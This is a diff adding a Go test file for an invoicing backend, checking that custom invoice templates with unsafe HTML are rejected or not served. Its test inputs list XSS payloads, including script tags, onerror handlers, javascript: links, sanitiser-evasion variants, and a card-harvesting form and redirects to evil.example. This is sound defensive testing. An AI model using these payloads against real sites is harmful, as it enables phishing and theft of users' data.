@@ -0,0 +1,133 @@
+package services
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/nava1525/bilio-backend/internal/app/models"
+	"github.com/nava1525/bilio-backend/internal/app/repositories"
+)
+
+type fakeUserRepository struct {
+	repositories.UserRepository
+}
+
+func (fakeUserRepository) GetByID(ctx context.Context, id string) (*models.User, error) {
+	return &models.User{ID: id}, nil
+}
+
+// fakeWorkspaceRepository serves a fixed set of stored templates.
+type fakeWorkspaceRepository struct {
+	repositories.WorkspaceRepository
+	templates       []models.WorkspaceTemplate
+	saved           []models.WorkspaceTemplate
+	invoiceCurrency string
+}
+
+func (r *fakeWorkspaceRepository) GetProfile(ctx context.Context, userID string) (*models.WorkspaceProfile, error) {
+	return nil, nil
+}
+
+func (r *fakeWorkspaceRepository) InvoiceCurrency(ctx context.Context, userID string) (string, error) {
+	return r.invoiceCurrency, nil
+}
+
+func (r *fakeWorkspaceRepository) ListTemplates(ctx context.Context, userID string) ([]models.WorkspaceTemplate, error) {
+	return r.templates, nil
+}
+
+func (r *fakeWorkspaceRepository) SaveTemplate(ctx context.Context, template *models.WorkspaceTemplate) error {
+	r.saved = append(r.saved, *template)
+	return nil
+}
+
+func TestBuiltinTemplatesPassMarkupCheck(t *testing.T) {
+	for kind, layouts := range invoiceTemplateSources {
+		for layout, source := range layouts {
+			if _, err := parseInvoiceTemplate(kind, source); err != nil {
+				t.Errorf("built-in %s %s template rejected: %v", kind, layout, err)
+			}
+		}
+	}
+}
+
+func TestParseInvoiceTemplateRejectsUnsafeMarkup(t *testing.T) {
+	tests := []string{
+		`<p>{{.WorkspaceName}}</p><script>alert(1)</script>`,
+		`<SCRIPT src="https://evil.example/x.js"></SCRIPT>`,
+		`<scr{{""}}ipt>alert(1)</script>`,
+		`<{{"script"}}>alert(1)</{{"script"}}>`,
+		`<img src="x" onerror="alert(1)">`,
+		`<img/src="x"/onerror=alert(1)>`,
+		`<a href="javascript:alert(1)">Pay now</a>`,
+		`<a href="java{{if true}}{{end}}script:alert(1)">Pay now</a>`,
+		`<iframe src="https://evil.example"></iframe>`,
+		`<form action="https://evil.example/login"><input name="card"></form>`,
+		`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+		`<base href="https://evil.example/">`,
+		`<link rel="stylesheet" href="https://evil.example/x.css">`,
+		`<style>@import url(https://evil.example/x.css);</style>`,
+		`{{define "x"}}<p>hi</p>{{end}}{{template "x"}}`,
+	}
+	for _, source := range tests {
+		_, err := parseInvoiceTemplate(models.TemplateKindShare, source)
+		if _, ok := AsValidationError(err); !ok {
+			t.Errorf("parseInvoiceTemplate(%q) = %v, want validation error", source, err)
+		}
+	}
+
+	allowed := `<style>body { font-family: sans-serif; }</style>` +
+		`<h1 style="color: {{.Brand.Color}}">{{.WorkspaceName}}</h1>` +
+		`{{if .Brand.LogoURL}}<img src="{{.Brand.LogoURL}}" alt="logo">{{end}}` +
+		`<a href="https://example.com/pay">Pay online</a>`
+	if _, err := parseInvoiceTemplate(models.TemplateKindShare, allowed); err != nil {
+		t.Errorf("parseInvoiceTemplate rejected a safe template: %v", err)
+	}
+}
+
+func TestStoredScriptTemplateIsNotServed(t *testing.T) {
+	workspaces := &fakeWorkspaceRepository{templates: []models.WorkspaceTemplate{{
+		UserID:  "user-1",
+		Kind:    models.TemplateKindShare,
+		Content: `<html><body><h1>{{.WorkspaceName}}</h1><script>document.location="https://evil.example"</script></body></html>`,
+	}}}
+	invoices := &InvoiceService{users: fakeUserRepository{}, workspaces: workspaces}
+
+	brand, err := invoices.loadBranding(context.Background(), "user-1")
+	if err != nil {
+		t.Fatal(err)
+	}
+	page, err := renderInvoiceShareHTML(sampleInvoice(), brand)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(strings.ToLower(string(page)), "<script") {
+		t.Errorf("shared page contains the template's script:\n%s", page)
+	}
+	if !strings.Contains(string(page), "INV-0001") {
+		t.Errorf("shared page was not rendered from the built-in layout:\n%s", page)
+	}
+}
+
+func TestSaveTemplateRejectsScript(t *testing.T) {
+	workspaces := &fakeWorkspaceRepository{}
+	invoices := &InvoiceService{users: fakeUserRepository{}, workspaces: workspaces}
+	svc := NewWorkspaceService(workspaces, invoices)
+
+	for _, preview := range []bool{false, true} {
+		content := `<h1>{{.WorkspaceName}}</h1><script>alert(1)</script>`
+		var err error
+		if preview {
+			_, err = svc.Preview(context.Background(), "user-1", PreviewInvoiceInput{Format: "share", Content: &content})
+		} else {
+			_, err = svc.SaveTemplate(context.Background(), "user-1", models.TemplateKindShare, SaveTemplateInput{Content: content})
+		}
+		if _, ok := AsValidationError(err); !ok {
+			t.Errorf("preview %v: error = %v, want validation error", preview, err)
+		}
+	}
+	if len(workspaces.saved) != 0 {
+		t.Errorf("saved %d templates, want none", len(workspaces.saved))
+	}
+}